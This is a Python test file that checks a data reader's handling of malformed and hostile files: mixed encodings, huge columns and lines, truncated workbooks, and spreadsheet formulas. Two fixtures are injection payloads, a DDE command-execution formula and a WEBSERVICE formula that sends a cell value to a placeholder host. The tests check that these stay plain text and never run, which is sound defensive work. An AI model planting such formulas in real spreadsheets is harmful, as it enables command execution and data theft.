"""Files that no honest program writes: mixed encodings, formulas, ten thousand columns, endless lines of every format."""

import io
import json
import random

import pytest
import xlsxwriter
from rows_of import everything

from suyuan.model.errors import TruncatedFile
from suyuan.model.records import BadRows
from suyuan.read import Unread, tables

NAMES = ["王小明", "李红", "欧阳娜娜", "联通", "张伟"]


def lines(count=400):
    rng = random.Random(1)
    return [f"{rng.choice(NAMES)}----1380000{i:04}----北京市海淀区学院路{i}号" for i in range(count)]


def told(path):
    """Rows by number, and bad rows by number."""
    bad, rows = BadRows(), {}
    for table in tables([path], bad):
        assert not isinstance(table, Unread)
        for chunk in table.chunks():
            rows |= dict(
                zip(
                    chunk.rows.tolist(),
                    ("----".join(r.values()) for r in chunk.data.to_pylist()),
                    strict=True,
                )
            )
    return rows, {one.place.row: one.reason for one in bad.rows}


@pytest.mark.parametrize("share", [0.02, 0.2, 0.5, 0.8, 0.98])
def test_each_line_is_read_in_its_own_encoding_or_counted_bad(tmp_path, share):
    rng = random.Random(2)
    data = [line.encode("utf-8" if rng.random() < share else "gb18030") for line in lines()]
    (tmp_path / "a.txt").write_bytes(b"\n".join(data))
    rows, bad = told(tmp_path / "a.txt")
    for number, line in enumerate(lines(), 1):
        assert rows.get(number) == line or bad.get(number) == "encoding", f"row {number} is garbled or lost"
    assert set(rows).isdisjoint(bad)
    if share < 0.7:
        assert not bad


def test_a_short_name_that_could_be_both_is_read_as_the_file_is(tmp_path):
    text = "".join(f"联通----1380000{i:04}----移动\n" for i in range(300))
    (tmp_path / "a.txt").write_bytes(text.encode("gb18030"))
    rows, bad = told(tmp_path / "a.txt")
    assert {row[:2] for row in rows.values()} == {"联通"}
    assert (len(rows), bad) == (300, {})


def book(write):
    target = io.BytesIO()
    made = xlsxwriter.Workbook(target, {"in_memory": True})
    write(made.add_worksheet("一"))
    made.close()
    return target.getvalue()


def test_formulas_give_their_value_or_else_their_text_and_are_never_run(tmp_path):
    def write(sheet):
        sheet.write_row(0, 0, ["姓名", "手机号"])
        sheet.write_formula(1, 0, '="王"&"小明"', None, "王小明")
        sheet.write_formula(1, 1, "=13800000000+1", None, 13800000001)
        sheet.write_formula(2, 0, '=WEBSERVICE("http://x/"&B2)', None, "")
        sheet.write(2, 1, 13800000002)
        sheet.write_formula(4, 1, "=13800000000+3", None, "")

    (tmp_path / "a.xlsx").write_bytes(book(write))
    found, _texts, errors = everything(tmp_path)
    assert errors == {}
    assert found["a.xlsx"] == [
        ["姓名", "手机号"],
        ["王小明", "13800000001"],
        ['=WEBSERVICE("http://x/"&B2)', "13800000002"],
        [None, "=13800000000+3"],
    ]


def test_cells_that_spreadsheets_would_run_stay_plain_text(tmp_path):
    (tmp_path / "a.csv").write_text(
        "姓名,手机号\n=cmd|' /C calc'!A0,13800000001\n" + "@SUM(1),+13800000002\n" * 20
    )
    found, _texts, errors = everything(tmp_path)
    assert errors == {}
    assert found["a.csv"][1:3] == [["=cmd|' /C calc'!A0", "13800000001"], ["@SUM(1)", "+13800000002"]]


@pytest.mark.parametrize("name", ["a.csv", "a.txt", "a.jsonl", "a.sql", "a.xlsx"])
def test_ten_thousand_columns_are_read_or_counted(tmp_path, name):
    header = [f"c{i}x" for i in range(10_000)]
    rows = [[f"{r}{i % 10}" for i in range(10_000)] for r in range(20)]
    if name == "a.jsonl":
        text = "\n".join(json.dumps(dict(zip(header, row, strict=True))) for row in rows)
    elif name == "a.sql":
        text = (
            f"INSERT INTO t ({','.join(header)}) VALUES "
            + ",".join(f"({','.join(row)})" for row in rows)
            + ";\n"
        )
    elif name == "a.xlsx":
        (tmp_path / name).write_bytes(
            book(lambda sheet: [sheet.write_row(n, 0, row) for n, row in enumerate(rows)])
        )
        text = ""
    else:
        text = "\n".join({"a.csv": ",", "a.txt": "----"}[name].join(row) for row in [header, *rows])
    if text:
        (tmp_path / name).write_text(text)
    bad, kept, unread = BadRows(), 0, 0
    for table in tables([tmp_path / name], bad):
        if isinstance(table, Unread):
            unread += 1
            continue
        for chunk in table.chunks():
            kept += chunk.data.num_rows
            assert chunk.data.num_columns == len(table.columns)
    assert kept + bad.total() >= 20 or unread


LONG = 50 << 20


@pytest.mark.parametrize(
    "name", ["a.txt", "a.csv", "a.json", "a.jsonl", "a.sql", "a.eml", "a.html", "a.rtf", "a.vcf"]
)
def test_fifty_million_bytes_in_one_line_are_read_or_named(tmp_path, name):
    starts = {
        "a.json": ('[{"a": "', '"}]'),
        "a.jsonl": ('{"a": 1}\n{"a": "', '"}\n{"a": 2}\n'),
        "a.sql": ("INSERT INTO t VALUES ('", "');\n"),
        "a.eml": ("From: a@b.cn\nTo: c@d.cn\n\n", "\n"),
        "a.html": ("<html><p>", "</p></html>"),
        "a.rtf": ("{\\rtf1 ", "}"),
        "a.vcf": ("BEGIN:VCARD\nFN:", "\nEND:VCARD\n"),
    }
    before, after = starts.get(name, ("王,1\n" * 20, "\n" + "李,2\n" * 20))
    with (tmp_path / name).open("w") as file:
        file.write(before + "x" * LONG + after)
    bad, kept, unread = BadRows(), 0, 0
    for table in tables([tmp_path / name], bad):
        unread += isinstance(table, Unread)
        kept += 0 if isinstance(table, Unread) else sum(chunk.data.num_rows for chunk in table.chunks())
    assert bad.total() or unread or kept
    assert all(len(one.raw) < 10_000 for one in bad.rows) or name in {"a.sql", "a.jsonl"}


def test_a_file_that_loses_its_end_while_it_is_read_is_said_to_have(tmp_path):
    path = tmp_path / "a.jsonl"
    path.write_text('{"姓名": "王小明", "手机号": "13800000001"}\n' * 50_000)
    found = tables([path], BadRows())
    table = next(found)
    path.write_text('{"姓名": "王')
    kept = sum(chunk.data.num_rows for chunk in table.chunks())
    errors = [item.error for item in found if isinstance(item, Unread)]
    assert kept < 50_000
    assert "shrank" in " ".join(map(str, errors))


def test_carriage_returns_and_marks_at_odd_places(tmp_path):
    (tmp_path / "a.csv").write_bytes(
        "\ufeff姓名,手机号\r\ufeff王小明,13800000001\r李红,13800000002\r".encode()
    )
    found, _texts, errors = everything(tmp_path)
    assert errors == {}
    assert [row[1] for row in found["a.csv"][1:]] == ["13800000001", "13800000002"]


def test_a_workbook_cut_in_the_middle_is_named(tmp_path):
    data = book(lambda sheet: sheet.write(0, 0, 1))
    (tmp_path / "a.xlsx").write_bytes(data[: len(data) // 2])
    _found, _texts, errors = everything(tmp_path)
    assert isinstance(errors["a.xlsx"], TruncatedFile)
